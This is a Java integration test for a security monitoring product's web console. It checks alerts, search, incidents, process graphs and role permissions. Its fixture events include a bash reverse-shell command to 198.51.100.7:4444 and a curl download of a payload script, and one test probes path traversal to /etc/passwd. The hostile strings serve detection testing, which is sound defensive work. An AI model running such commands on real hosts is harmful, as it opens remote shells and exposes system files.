package dev.kiroku.it.console;

import com.fasterxml.jackson.databind.JsonNode;
import dev.kiroku.event.Event;
import dev.kiroku.event.NetworkActivity;
import dev.kiroku.event.ProcessInfo;
import dev.kiroku.event.ProcessStart;
import dev.kiroku.server.KirokuServer;
import dev.kiroku.server.ServerConfig;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/** The web console in a real headless Chromium against a real server holding real alerts and events. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ConsoleTest {
    private static final Duration PAGE = Duration.ofSeconds(20);

    KirokuServer server;
    HeadlessBrowser browser;
    String base;
    String user;
    String password;

    @BeforeAll
    void start(@TempDir Path directory) throws Exception {
        server = new KirokuServer(new ServerConfig(directory.resolve("server"), "127.0.0.1", 0, Duration.ofDays(30)),
                InstantSource.system()).start();
        base = server.url();
        Instant now = Instant.now();
        // curl is the shell's child, started seconds later: the graph's time slider has a start at which only the
        // shell existed.
        Instant shellStart = now.minusSeconds(20);
        Instant curlStart = now.minusSeconds(10);
        ProcessInfo shell = process("e-shell", 5100, shellStart, SSHD, "/usr/bin/bash", List.of("bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"));
        ProcessInfo curl = process("e-curl", 5200, curlStart,
                new ProcessInfo.ParentRef("e-shell", 5100, "/usr/bin/bash", List.of("bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")), "/usr/bin/curl", List.of("curl", "-s", "http://127.0.0.1:8080/payload.sh"));
        List<Event> events = new ArrayList<>();
        events.add(new Event("agent-console", 1, shellStart, "web-1", List.of(), new ProcessStart(shell, false)));
        events.add(new Event("agent-console", 2, curlStart, "web-1", List.of(), new ProcessStart(curl, false)));
        events.add(new Event("agent-console", 3, now, "web-1", List.of(),
                new NetworkActivity(NetworkActivity.Action.CONNECT, "tcp", null, 0, "127.0.0.1", 8080, true, curl)));
        server.ingest().deliver(events);
        String[] admin = java.nio.file.Files.readString(server.credentialsFile()).trim().split(":", 2);
        user = admin[0];
        password = admin[1];
        var http = dev.kiroku.it.ServerRest.client(server);
        var alerts = java.net.http.HttpRequest.newBuilder(java.net.URI.create(base + "/api/v1/alerts"))
                .header("Authorization", "Basic " + java.util.Base64.getEncoder().encodeToString((user + ":" + password).getBytes())).build();
        await().atMost(Duration.ofSeconds(30)).until(() ->
                http.send(alerts, java.net.http.HttpResponse.BodyHandlers.ofString()).body().contains("\"rule\""));
        browser = new HeadlessBrowser();
        signIn();
    }

    /** The console asks for a user on its first API call; a wrong password is refused in the dialog. */
    private void signIn() throws Exception {
        browser.open(base + "/console/");
        browser.waitUntil("document.querySelector('dialog.login[open]')", PAGE);
        submitLogin(user, "not-the-password");
        browser.waitUntil("document.querySelector('dialog.login p.error').innerText.includes('Wrong user name or password')", PAGE);
        submitLogin(user, password);
        browser.waitUntil("!document.querySelector('dialog.login')", PAGE);
        assertThat(browser.text("document.getElementById('user').innerText")).contains(user);
    }

    /** Opens a console page and waits until it, not the previous one, is shown with every section loaded (#page[data-shown]). */
    private void show(String route) throws Exception {
        browser.open(base + "/console/#/" + route);
        browser.waitUntil("document.getElementById('page').dataset.shown === (location.hash || '#/overview') "
                + "&& !document.querySelector('#page .loading')", Duration.ofSeconds(60));
    }

    private void submitLogin(String name, String secret) throws Exception {
        browser.eval("(() => { const d = document.querySelector('dialog.login'); d.querySelector('input[name=user]').value = "
                + js(name) + "; d.querySelector('input[name=password]').value = " + js(secret)
                + "; d.querySelector('form').requestSubmit(); })()");
    }

    private static String js(String text) {
        return "'" + text.replace("\\", "\\\\").replace("'", "\\'") + "'";
    }

    private static final ProcessInfo.ParentRef SSHD = new ProcessInfo.ParentRef("e-sshd", 900, "/usr/sbin/sshd", List.of("sshd"));

    private static ProcessInfo process(String entity, int pid, Instant start, ProcessInfo.ParentRef parent, String executable, List<String> args) {
        return new ProcessInfo(entity, pid, start, parent,
                executable, args, "/root", null, new ProcessInfo.Credentials(0, "root", 0, "root", 0, 0, 0), 1, null, null);
    }

    @AfterAll
    void stop() throws Exception {
        if (browser != null) browser.close();
        if (server != null) server.close();
    }

    @Test
    void overviewShowsAlertsBySeverityAndTheAttackMatrix() throws Exception {
        browser.open(base + "/");
        browser.waitUntil("document.querySelector('.matrix .technique')", PAGE);
        assertThat(browser.text("location.pathname")).isEqualTo("/console/");
        assertThat(browser.eval("document.querySelectorAll('.matrix .technique.fired').length").asInt()).isPositive();
        assertThat(browser.eval("document.querySelectorAll('svg.chart rect').length").asInt()).isPositive();
        assertThat(browser.consoleErrors()).isEmpty();
    }

    @Test
    void searchFindsEventsPivotsAndExportsCsv() throws Exception {
        show("search?q=process.name:curl&last=1h");
        browser.waitUntil("document.querySelector('table.events tbody tr')", PAGE);
        String firstRow = browser.text("document.querySelector('table.events tbody tr').innerText");
        assertThat(firstRow).contains("curl");
        String csv = browser.text("import('/console/js/pages/search.js').then(m => m.csv([{'process.name': 'a,b', 'x': 'q\"r'}], ['process.name', 'x']))");
        assertThat(csv).isEqualTo("process.name,x\r\n\"a,b\",\"q\"\"r\"\r\n");
        // field completion comes from the server's schema
        browser.eval("(() => { const q = document.querySelector('input.query'); q.value = 'process.na'; q.setSelectionRange(10, 10); q.dispatchEvent(new Event('input')); })()");
        browser.waitUntil("[...document.querySelectorAll('#field-names option')].some(o => o.value === 'process.name:')", PAGE);
        assertThat(browser.consoleErrors()).isEmpty();
    }

    @Test
    void alertPageShowsTheMatchedEventAndPreviewsAnException() throws Exception {
        show("alerts");
        browser.waitUntil("document.querySelector('table.data tbody tr a[href^=\"#/alerts/\"]')", PAGE);
        browser.eval("document.querySelector('table.data tbody tr a[href^=\"#/alerts/\"]').click()");
        browser.waitUntil("document.querySelector('details.event')", PAGE);
        assertThat(browser.text("document.querySelector('details.event').innerText")).contains("/dev/tcp/198.51.100.7/4444");
        browser.eval("document.querySelector('label.check input').click()");
        browser.eval("[...document.querySelectorAll('button')].find(b => b.textContent === 'Preview').click()");
        browser.waitUntil("document.body.innerText.includes('Would suppress')", PAGE);
        assertThat(browser.text("document.body.innerText")).containsPattern("Would suppress [1-9]\\d* of the last");

        // triage: acknowledge and assign, as the signed-in user
        browser.eval("(() => { const t = document.querySelector('section.card select'); t.value = 'acknowledged'; "
                + "document.querySelector('input[placeholder=assignee]').value = 'carol'; "
                + "[...document.querySelectorAll('button')].find(b => b.textContent === 'Save').click(); })()");
        browser.waitUntil("document.body.innerText.includes('Saved.')", PAGE);
        show("alerts?status=acknowledged");
        browser.waitUntil("document.querySelector('table.data tbody tr')", PAGE);
        assertThat(browser.text("document.querySelector('table.data tbody').innerText")).contains("acknowledged").contains("carol");
    }

    @Test
    void investigateWalksFromAnAddressToTheProcessAndItsGraph() throws Exception {
        show("investigate?kind=ip&value=127.0.0.1");
        browser.waitUntil("document.querySelector('.steps table.data tbody tr')", PAGE);
        assertThat(browser.text("document.querySelector('.steps').innerText")).contains("curl").contains("web-1");
        show("graph?entity=e-curl");
        // The investigate page draws a graph too: wait for the graph page's own before clicking a node.
        browser.waitUntil("document.querySelector('h1') && document.querySelector('h1').innerText === 'Graph' && document.querySelector('svg.graph g.node')", PAGE);
        browser.eval("document.querySelector('svg.graph g.node.process').dispatchEvent(new MouseEvent('click', {bubbles: true}))");
        browser.waitUntil("document.querySelector('aside.node-details h3')", PAGE);
        // the time slider: at its start only what existed first is drawn, at its end everything again
        int all = browser.eval("document.querySelectorAll('svg.graph g.node').length").asInt();
        browser.eval("(() => { const s = document.querySelector('input[type=range]'); s.value = 0; s.dispatchEvent(new Event('input')); })()");
        browser.waitUntil("document.querySelectorAll('svg.graph g.node').length < " + all, PAGE);
        assertThat(browser.eval("document.querySelectorAll('svg.graph g.node').length").asInt()).isPositive();
        browser.eval("(() => { const s = document.querySelector('input[type=range]'); s.value = 1000; s.dispatchEvent(new Event('input')); })()");
        browser.waitUntil("document.querySelectorAll('svg.graph g.node').length === " + all, PAGE);
        assertThat(browser.consoleErrors()).isEmpty();
    }

    @Test
    void responseAndIncidentPagesLoad() throws Exception {
        show("response");
        browser.waitUntil("document.body.innerText.includes('Nothing is blocked.') && document.body.innerText.includes('No indicators imported.')", PAGE);
        show("incidents");
        browser.waitUntil("document.querySelector('h1') && document.querySelector('h1').innerText === 'Incidents' && !document.querySelector('p.loading')", PAGE);
        show("endpoints");
        browser.waitUntil("document.body.innerText.includes('No endpoint has enrolled yet.')", PAGE);
        assertThat(browser.consoleErrors()).isEmpty();
    }

    @Test
    void anIncidentGroupedFromTheAlertIsWorkedAndClosedWithItsReport() throws Exception {
        show("incidents");
        browser.waitUntil("document.querySelector('table.data tbody tr a[href^=\"#/incidents/\"]')", Duration.ofSeconds(60));
        browser.eval("document.querySelector('table.data tbody tr a[href^=\"#/incidents/\"]').click()");
        browser.waitUntil("document.querySelector('textarea[placeholder^=\"Root cause\"]')", PAGE);
        assertThat(browser.text("document.querySelector('main').innerText")).contains("web-1");

        browser.eval("(() => { const t = document.querySelector('textarea[placeholder^=\"What you found\"]'); t.value = 'reverse shell from sshd session'; "
                + "[...document.querySelectorAll('button')].find(b => b.textContent === 'Add note').click(); })()");
        browser.waitUntil("document.body.innerText.includes('reverse shell from sshd session')", PAGE);

        browser.eval("(() => { document.querySelector('textarea[placeholder^=\"Root cause\"]').value = 'bash reverse shell started from an ssh session'; "
                + "document.querySelector('textarea[placeholder^=\"Scope\"]').value = 'web-1 only; no other endpoint contacted 198.51.100.7'; "
                + "[...document.querySelectorAll('button')].find(b => b.textContent === 'Close incident').click(); })()");
        browser.waitUntil("document.querySelector('dialog.confirm [data-confirm]')", PAGE);
        browser.eval("document.querySelector('dialog.confirm [data-confirm]').click()");
        browser.waitUntil("document.querySelector('h1 .badge') && document.querySelector('h1 .badge').innerText === 'closed'", PAGE);
        assertThat(browser.eval("[...document.querySelectorAll('button')].some(b => b.textContent === 'Closure report (HTML)')").asBoolean()).isTrue();
        assertThat(browser.consoleErrors()).isEmpty();
    }

    @Test
    void settingsCreateAnEnrolmentTokenAndAUserAndShowTheAuditTrail() throws Exception {
        show("settings");
        browser.waitUntil("document.querySelector('input[name=expires]')", PAGE);
        browser.eval("[...document.querySelectorAll('button')].find(b => b.textContent === 'Create token').click()");
        browser.waitUntil("document.querySelector('pre.token')", PAGE);
        assertThat(browser.text("document.querySelector('pre.token').innerText")).contains("./kiroku agent --server").contains("--token K1.");
        browser.eval("(() => { document.querySelector('input[name=name]').value = 'nina'; document.querySelector('select[name=role]').value = 'analyst'; "
                + "document.querySelector('input[name=password][type=password]').value = 'analyst-password-42'; "
                + "[...document.querySelectorAll('button')].find(b => b.textContent === 'Create or replace user').click(); })()");
        browser.waitUntil("document.body.innerText.includes('nina is now analyst.')", PAGE);
        show("settings?again=1");
        browser.waitUntil("[...document.querySelectorAll('table.data td')].some(td => td.innerText.includes('nina (analyst'))", PAGE);
        assertThat(browser.consoleErrors()).isEmpty();
    }

    /**
     * A viewer may look but not act: on an enrolled endpoint's page and on an alert's page every action control is
     * disabled, with a title naming the role it needs.
     */
    @Test
    void aViewerSeesNoEnabledActionOnAnEndpointOrAnAlert(@TempDir Path agentDirectory) throws Exception {
        String token = server.fleet().createToken(Duration.ofHours(1), "default", "test");
        dev.kiroku.fleet.client.Enroller.enrol("127.0.0.1:" + server.fleet().port(), token, "agent-viewer-test", "viewer-host",
                new dev.kiroku.fleet.client.AgentCredentials(agentDirectory));
        var created = java.net.http.HttpRequest.newBuilder(java.net.URI.create(base + "/api/v1/users"))
                .header("Authorization", "Basic " + java.util.Base64.getEncoder().encodeToString((user + ":" + password).getBytes()))
                .header("Content-Type", "application/json")
                .POST(java.net.http.HttpRequest.BodyPublishers.ofString(
                        "{\"name\":\"vera\",\"role\":\"viewer\",\"password\":\"viewer-password-42\"}")).build();
        assertThat(dev.kiroku.it.ServerRest.client(server).send(created, java.net.http.HttpResponse.BodyHandlers.ofString()).statusCode())
                .isEqualTo(201);
        HeadlessBrowser viewer = new HeadlessBrowser();
        try {
            viewer.open(base + "/console/");
            viewer.waitUntil("document.querySelector('dialog.login[open]')", PAGE);
            viewer.eval("(() => { const d = document.querySelector('dialog.login'); d.querySelector('input[name=user]').value = 'vera'; "
                    + "d.querySelector('input[name=password]').value = 'viewer-password-42'; d.querySelector('form').requestSubmit(); })()");
            viewer.waitUntil("!document.querySelector('dialog.login')", PAGE);

            viewer.open(base + "/console/#/endpoints/agent-viewer-test");
            viewer.waitUntil("document.querySelectorAll('.response-actions button').length > 0", PAGE);
            assertNoEnabledAction(viewer);
            assertThat(viewer.text("document.querySelector('.response-actions button').title")).contains("analyst").contains("viewer");

            viewer.open(base + "/console/#/alerts");
            viewer.waitUntil("document.querySelector('table.data tbody tr a[href^=\"#/alerts/\"]')", PAGE);
            viewer.eval("document.querySelector('table.data tbody tr a[href^=\"#/alerts/\"]').click()");
            viewer.waitUntil("[...document.querySelectorAll('button')].some(b => b.textContent === 'Add exception')", PAGE);
            assertNoEnabledAction(viewer);
            assertThat(viewer.eval("[...document.querySelectorAll('#page button')].filter(b => ['Save', 'Preview', 'Add exception']"
                    + ".includes(b.textContent) && b.disabled).length").asInt()).isEqualTo(3);
        } finally {
            viewer.close();
        }
    }

    /** Every control marked as an action is disabled, and no button outside them is one that changes something. */
    private static void assertNoEnabledAction(HeadlessBrowser page) throws Exception {
        assertThat(page.eval("document.querySelectorAll('#page [data-needs]').length").asInt()).isPositive();
        assertThat(page.text("[...document.querySelectorAll('#page [data-needs]')].filter(c => !c.disabled)"
                + ".map(c => c.textContent || c.outerHTML).join(' | ')")).isEmpty();
    }

    @Test
    void anAdminSetsTheStoreRetentionFromSettings() throws Exception {
        show("settings");
        browser.waitUntil("document.querySelector('input[name=retention_days]')", PAGE);
        assertThat(browser.eval("document.querySelector('input[name=retention_days]').value").asText()).isEqualTo("30");
        browser.eval("(() => { document.querySelector('input[name=retention_days]').value = '0'; "
                + "[...document.querySelectorAll('button')].find(b => b.textContent === 'Save retention').click(); })()");
        browser.waitUntil("document.querySelector('form.retention .error')", PAGE);
        assertThat(browser.text("document.querySelector('form.retention .error').innerText")).contains("from 1 to 36500 days").contains("0");
        browser.eval("(() => { document.querySelector('input[name=retention_days]').value = '45'; "
                + "[...document.querySelectorAll('button')].find(b => b.textContent === 'Save retention').click(); })()");
        browser.waitUntil("document.querySelector('form.retention').innerText.includes('Events are now kept 45 days (set here)')", PAGE);
        show("settings?again=retention");
        browser.waitUntil("document.querySelector('input[name=retention_days]')", PAGE);
        assertThat(browser.eval("document.querySelector('input[name=retention_days]').value").asText()).isEqualTo("45");
        assertThat(browser.consoleErrors()).isEmpty();
    }

    @Test
    void rulesPageListsTheLoadedRules() throws Exception {
        show("rules");
        browser.waitUntil("document.querySelectorAll('table.data tbody tr').length > 50", PAGE);
        assertThat(browser.text("document.querySelector('h1').innerText")).containsPattern("\\d+ rules");
    }

    @Test
    void unsafeOrUnknownConsolePathsAreNotServed() throws Exception {
        var http = dev.kiroku.it.ServerRest.client(server);
        for (String path : List.of("/console/../../../etc/passwd", "/console/js/%2e%2e/x.js", "/console/nothing.js")) {
            var response = http.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(base + path)).build(),
                    java.net.http.HttpResponse.BodyHandlers.ofString());
            assertThat(response.statusCode()).as(path).isIn(400, 404);
            assertThat(response.body()).doesNotContain("root:");
        }
    }

    /** Every module the console loads is preloaded by index.html (no import waves), and an unchanged file revalidates as a 304. */
    @Test
    void modulesArePreloadedAndRevalidatedByEntityTag() throws Exception {
        show("overview");
        JsonNode loaded = browser.eval("[...new Set(performance.getEntriesByType('resource').map(e => new URL(e.name).pathname)"
                + ".filter(p => p.endsWith('.js')))]");
        JsonNode preloaded = browser.eval("[...document.querySelectorAll('link[rel=modulepreload]')].map(l => new URL(l.href).pathname)");
        List<String> preloads = new ArrayList<>();
        preloaded.forEach(n -> preloads.add(n.asText()));
        assertThat(loaded.size()).isGreaterThan(10);
        loaded.forEach(module -> {
            if (!module.asText().equals("/console/js/app.js")) assertThat(preloads).as("modulepreload in index.html").contains(module.asText());
        });

        var http = dev.kiroku.it.ServerRest.client(server);
        var first = http.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(base + "/console/js/app.js")).build(),
                java.net.http.HttpResponse.BodyHandlers.ofString());
        String etag = first.headers().firstValue("ETag").orElseThrow();
        var again = http.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(base + "/console/js/app.js"))
                .header("If-None-Match", etag).build(), java.net.http.HttpResponse.BodyHandlers.ofString());
        assertThat(again.statusCode()).isEqualTo(304);
        assertThat(again.body()).isEmpty();
        var changed = http.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(base + "/console/js/app.js"))
                .header("If-None-Match", "\"other\"").build(), java.net.http.HttpResponse.BodyHandlers.ofString());
        assertThat(changed.statusCode()).isEqualTo(200);
        assertThat(changed.body()).isEqualTo(first.body());
    }
}
